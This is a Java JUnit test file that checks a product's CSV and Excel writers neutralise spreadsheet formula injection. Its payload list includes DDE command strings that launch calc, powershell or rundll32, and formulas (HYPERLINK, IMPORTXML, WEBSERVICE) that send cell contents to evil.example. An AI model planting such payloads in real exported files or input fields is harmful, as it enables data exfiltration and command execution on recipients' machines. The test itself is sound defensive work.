package staffnetwork.spreadsheet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text that somebody types to make another person's spreadsheet program run it: in no file of ours does it run. */
class FormulaInjectionTest {
    private static final int PAYLOADS = 1_500;
    private static final List<String> SIGNS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20");
    private static final List<String> BEFORE = List.of("", "", "", " ", "  ", "\u00A0", "\u200B", "\uFEFF", "\t", "\n");
    private static final List<String> DEEDS = List.of(
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
            "IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
            "WEBSERVICE(\"https://evil.example/\"&B2)",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(1+1)*cmd|'/C powershell'!A0",
            "1+1",
            "A1",
            "2+5+cmd|' /C calc'!A0",
            "\"=1+1\"",
            "-1",
            "IF(1,2,3)",
            "rundll32|'URL.dll,OpenURL calc.exe'!A");

    /** What a spreadsheet program could run, written apart from the product's own rule. */
    private static final Pattern RUNS = Pattern.compile("(?s)[\\s\\p{Z}\\p{Cf}\\p{Cc}]*[=+\\-@＝＋－＠].*");

    private static final Pattern NUMBER = Pattern.compile("-?[0-9][0-9,]*(\\.[0-9]+)?|-");

    private static List<String> payloads() {
        Random random = new Random(6);
        List<String> payloads = new ArrayList<>();
        while (payloads.size() < PAYLOADS) {
            String text = any(BEFORE, random) + any(SIGNS, random) + any(DEEDS, random);
            payloads.add(
                    switch (random.nextInt(4)) {
                        case 0 -> text.toLowerCase(Locale.ROOT);
                        case 1 -> text + "," + text + "\r\n" + text;
                        case 2 -> text + "\"";
                        default -> text;
                    });
        }
        return payloads;
    }

    private static String any(List<String> some, Random random) {
        return some.get(random.nextInt(some.size()));
    }

    @Test
    void none_runs_in_a_csv_file_in_whatever_column_it_stands() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        List<String> payloads = payloads();
        try (CsvWriter csv = new CsvWriter(out)) {
            payloads.forEach(text -> csv.row("before", text, text, "after"));
        }
        String file = out.toString(StandardCharsets.UTF_8).substring(1);
        int cells = 0;
        for (CsvRecord row : CsvReader.builder().ofCsvRecord(file)) {
            assertEquals(List.of("before", "after"), List.of(row.getField(0), row.getField(3)), "no cell of its own");
            for (String cell : row.getFields()) {
                assertTrue(NUMBER.matcher(cell).matches() || !RUNS.matcher(cell).matches(), cell);
                cells++;
            }
            assertTrue(row.getField(1).endsWith(payloads.get(cells / 4 - 1)), "nothing of it is lost");
        }
        assertEquals(4 * PAYLOADS, cells);
    }

    @Test
    void none_runs_in_a_workbook_and_each_is_marked_as_text(@TempDir Path folder) {
        Path file = folder.resolve("payloads.xlsx");
        List<String> payloads = payloads();
        int row = 0;
        try (WorkbookWriter book = new WorkbookWriter("Payloads")) {
            TableWriter table = book.sheet("Texts", "Texts", "Payloads.").table("Texts", "Before", "Text");
            for (String text : payloads) {
                int written = table.row(CellValue.text("before"), CellValue.text(text));
                row = row == 0 ? written : row;
            }
            book.write(file);
        }
        try (WrittenWorkbook book = WrittenWorkbook.open(file)) {
            XSSFSheet sheet = Objects.requireNonNull(book.poi().getSheet("Texts"));
            for (int i = 0; i < PAYLOADS; i++) {
                XSSFCell cell = sheet.getRow(row - 1 + i).getCell(1);
                assertEquals(CellType.STRING, cell.getCellType(), payloads.get(i));
                assertTrue(
                        cell.getCellStyle().getQuotePrefixed()
                                || NUMBER.matcher(payloads.get(i)).matches(),
                        payloads.get(i));
            }
        }
    }

    @Test
    void every_csv_file_and_workbook_of_the_product_is_written_by_the_two_writers_tried_here() throws IOException {
        try (Stream<Path> files = Files.walk(Path.of("src/main/java/staffnetwork"))) {
            for (Path file :
                    files.filter(one -> one.toString().endsWith(".java")).toList()) {
                String code = Files.readString(file);
                boolean own = file.toString().contains("spreadsheet");
                assertTrue(own || !code.contains("de.siegmar.fastcsv.writer"), file + " writes CSV by itself");
                assertTrue(!code.contains("\"text/csv") || code.contains("new CsvWriter("), file + " sends other CSV");
            }
        }
    }
}
